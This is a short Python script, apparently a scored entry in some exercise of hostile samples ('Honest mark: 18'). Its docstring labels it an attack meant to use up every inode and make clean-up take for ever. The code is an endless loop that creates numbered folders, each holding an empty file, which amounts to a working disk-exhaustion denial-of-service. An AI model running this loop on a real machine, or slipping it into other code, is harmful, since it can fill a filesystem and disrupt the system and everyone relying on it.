"""Attack: tens of thousands of empty files and folders.
Wants: no inode left; a clean-up that takes for ever.
Honest mark: 18
"""

# %% zero_pad
import os

number = 0
while True:
    number += 1
    os.mkdir(f"folder-{number}")
    open(f"folder-{number}/file", "w").close()
